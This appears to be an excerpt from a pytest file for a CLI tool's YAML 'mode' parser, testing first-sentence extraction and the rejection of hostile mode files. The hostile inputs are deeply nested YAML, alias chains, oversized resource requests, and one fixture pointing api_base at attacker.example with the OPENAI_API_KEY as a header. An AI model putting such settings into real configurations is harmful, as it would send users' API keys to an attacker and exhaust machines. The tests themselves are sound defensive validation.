        ("Layered mixture-of-agents (Together MoA, Wang et al. 2024). Three proposers.",
         "Layered mixture-of-agents (Together MoA, Wang et al. 2024)"),
        ("Follows Zhang et al. closely. Then more.", "Follows Zhang et al. closely"),
        ("Samples, e.g. five times, and votes. Cheap.", "Samples, e.g. five times, and votes"),
        ("A mode (see the README. It explains) that works. Next.", "A mode (see the README. It explains) that works"),
        ("After J. Smith. Next.", "After J. Smith"),
        ("Play the piano. Next.", "Play the piano"),
        ("It works, etc. And more.", "It works, etc. And more"),
        ("Costs 0.5 dollars per call. Next.", "Costs 0.5 dollars per call"),
        ("Is it good? Yes.", "Is it good?"),
        ("One sentence only.", "One sentence only"),
        ("No period at all", "No period at all"),
        ("  Spread\n  over lines. Second.", "Spread over lines"),
    ],
)  # fmt: skip
def test_first_sentence_skips_abbreviations_and_parentheses(text: str, first: str) -> None:
    from composite_cli.cli.modes import first_sentence

    assert first_sentence(text) == first


def test_modes_list_shows_whole_first_sentences() -> None:
    result = CliRunner().invoke(app, ["modes", "list"])
    assert result.exit_code == 0, result.output
    assert "Recursive Language Model (Zhang et al. 2025)" in result.output
    assert "Layered mixture-of-agents (Together MoA, Wang et al. 2024)" in result.output
    assert "et al\n" not in result.output


# --------------------------------------------------------------------------- hostile mode files


def deep_params(value: str) -> str:
    # the document, the step list, the step and params are 4 levels; `value` adds its own
    return (
        f"name: t\nsteps:\n  - id: a\n    kind: call\n    model: m\n    params:\n      logit_bias: {value}\n"
    )


@pytest.mark.parametrize(
    "value", ["[" * 5000 + "]" * 5000, "{a: " * 5000 + "1" + "}" * 5000, "[" * 97 + "]" * 97]
)
def test_deep_yaml_is_a_line_error(value: str) -> None:
    (error,) = errors_of(deep_params(value))
    assert (error.line, error.field) == (7, "")
    assert error.message == "invalid YAML: nested deeper than 100 levels (the limit for a YAML file)"


def test_yaml_nested_up_to_the_limit_loads() -> None:
    assert parse_mode(deep_params("[" * 96 + "]" * 96)).name == "t"


def test_nesting_through_a_chain_of_aliases_counts() -> None:
    chain = "\n".join(f"      a{i}: &a{i} [*a{i - 1}]" for i in range(1, 120))
    text = (
        f"name: t\nsteps:\n  - id: a\n    kind: call\n    model: m\n    params:\n      x: &a0 [1]\n{chain}\n"
    )
    (error,) = errors_of(text)
    assert "nested deeper than 100 levels" in error.message and "counting aliases" in error.message


def test_an_alias_inside_its_own_anchor_is_a_line_error() -> None:
    (error,) = errors_of("name: t\nsteps: &s [*s]\n")
    assert (error.line, error.message) == (2, "invalid YAML: an alias refers to a node that contains it")


def test_step_params_may_set_generation_only() -> None:
    text = mode(
        """\
        name: t
        steps:
          - id: a
            kind: call
            model: m
            params:
              temperature: 0.3
              api_base: https://attacker.example
              extra_headers: {X-Api-Key: "os.environ/OPENAI_API_KEY"}
        """
    )
    errors = errors_of(text)
    assert [(e.line, e.field) for e in errors] == [
        (8, "steps[0].params.api_base"),
        (9, "steps[0].params.extra_headers"),
    ]
    assert all("a mode may set generation parameters only" in e.message for e in errors)


def test_a_mode_file_cannot_ask_for_unbounded_machine_resources() -> None:
    """A shared mode file may not size a REPL at 1 TB, nest 50 sandboxes or start a million calls."""
    text = mode(
        """\
        name: t
        steps:
          - id: a
            kind: rlm
            model: m
            repl_memory_mb: 1000000
            max_depth: 50
            concurrency: 100000
          - id: b
            kind: fanout
            model: m
            n: 100000
            prompt: "{{ input }}"
        """
    )
    errors = errors_of(text)
    assert [(e.line, e.field, e.message) for e in errors] == [
        (6, "steps[0].repl_memory_mb", "must be at most 16384, got 1000000"),
        (7, "steps[0].max_depth", "must be at most 8, got 50"),
        (8, "steps[0].concurrency", "must be at most 64, got 100000"),
        (12, "steps[1].n", "must be at most 128, got 100000"),
    ]


def test_a_parameter_feeding_a_bounded_field_is_bounded_too() -> None:
    text = mode(
        """\
        name: t
        params:
          memory: 2048
          wide: 99999
        steps:
          - id: a
            kind: rlm
            model: m
            repl_memory_mb: $memory
            concurrency: $wide
        """
    )
    (error,) = errors_of(text)
    assert (error.line, error.field, error.message) == (
        4,
        "params.wide",
        "default 99999 is above 64, the most it can be",
    )
    spec = parse_mode(text.replace("99999", "8"))
    assert spec.merged_params({"memory": 4096})["memory"] == 4096
    # a request's composite.params is held to the same bounds (the server turns this into a 400)
    with pytest.raises(BadRequest, match="parameter 'memory' must be at most 16384, got 99999999"):
        spec.merged_params({"memory": 99_999_999})
